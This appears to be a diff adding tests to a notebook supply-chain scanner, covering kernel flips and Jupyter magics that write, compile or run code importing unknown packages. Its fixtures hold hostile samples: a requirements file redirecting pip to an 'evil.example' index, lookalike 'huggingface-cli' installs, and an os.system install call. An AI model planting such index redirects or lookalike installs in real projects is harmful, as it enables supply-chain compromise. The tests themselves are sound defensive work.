@@ -73,6 +73,20 @@ def test_a_script_cell_run_by_python_is_python(repo: Repo, run: Any, magic: str)
     assert "HC001" in _codes(repo, run, json.dumps(_document([f"{magic}\nimport fakepkg_zz\n"])))
 
 
+def test_a_kernel_flipped_to_python_makes_every_cell_new(repo: Repo, run: Any) -> None:
+    # Attack E16: the cells' text is unchanged, but the change is what runs them as Python.
+    cells = ["import fakepkg_zz\n!pip install huggingface-cli\n"]
+    r_kernel = {"kernelspec": {"name": "ir", "language": "R"}, "language_info": {"name": "R"}}
+    python = {"kernelspec": {"name": "python3", "language": "python"}, "language_info": {"name": "python"}}
+    base, flipped = json.dumps(_document(cells, 4, r_kernel)), json.dumps(_document(cells, 4, python))
+    assert {"HC001", "HC031"} <= set(_codes(repo, run, flipped, base))
+    base_commit = repo.git("rev-parse", "HEAD").strip()
+    repo.commit()
+    assert {"HC001", "HC031"} <= set(run("--from-ref", base_commit, "--to-ref", "HEAD").codes())
+    repo.stage({"nb.ipynb": json.dumps(_document([*cells, "x = 1\n"], 4, python))})
+    assert "HC001" not in run().codes()  # python before and after: only new cells count
+
+
 def test_importers_bound_in_another_cell(repo: Repo, run: Any) -> None:
     first = "import importlib, runpy\nload = importlib.import_module\n"
     base = json.dumps(_document([first]), indent=1)
@@ -158,6 +172,14 @@ def test_the_import_a_python_kernel_runs_is_found(
         (["%%file setup.sh\npip install huggingface-cli"], "HC031"),
         (["%%writefile requirements.txt\n--index-url https://evil.example/simple\nrequests"], "HC040"),
         (["%%writefile pyproject.toml\n[project]\ndependencies = ['x']"], "HC042"),
+        # Attack E27: a module the notebook writes and then imports or runs, a compiled Cython cell, a test cell.
+        (["%%writefile helper.py\nimport fakepkg_zz\n", "import helper"], "HC001"),
+        (["%%writefile -a 'tools/helper.py'\nimport fakepkg_zz\n", "%run tools/helper.py"], "HC001"),
+        (["%%file m.pyx\ncimport fakepkg_zz\n"], "HC001"),
+        (["%load_ext Cython", "%%cython\nimport fakepkg_zz\ncdef int x = 1"], "HC001"),
+        (["%%cython -a\nfrom fakepkg_zz cimport thing"], "HC001"),
+        (["%%cython\nimport os\nos.system('pip install huggingface-cli')"], "HC031"),
+        (["%%ipytest -qq\nimport fakepkg_zz\ndef test_x(): pass"], "HC001"),
     ],
 )
 def test_magics_that_run_shell_install_or_import(repo: Repo, run: Any, cells: list[str], code: str) -> None:
@@ -174,6 +196,8 @@ def test_magics_that_run_shell_install_or_import(repo: Repo, run: Any, cells: li
         ["%%writefile notes.txt\nhuggingface-cli", "%pip install -r other.txt"],
         ["%%writefile requirements.txt\nrequests"],  # a popular name
         ["pip = 3"], ["run(1)"], ["%alias p pip\nprint(1)"],
+        ["%%writefile notes.md\nimport fakepkg_zz"],  # not a module
+        ["%%cython\nfrom libc.math cimport sqrt\ncdef double x = sqrt(2.0)"],
     ],
 )
 def test_magics_that_install_or_import_nothing_new(repo: Repo, run: Any, cells: list[str]) -> None:
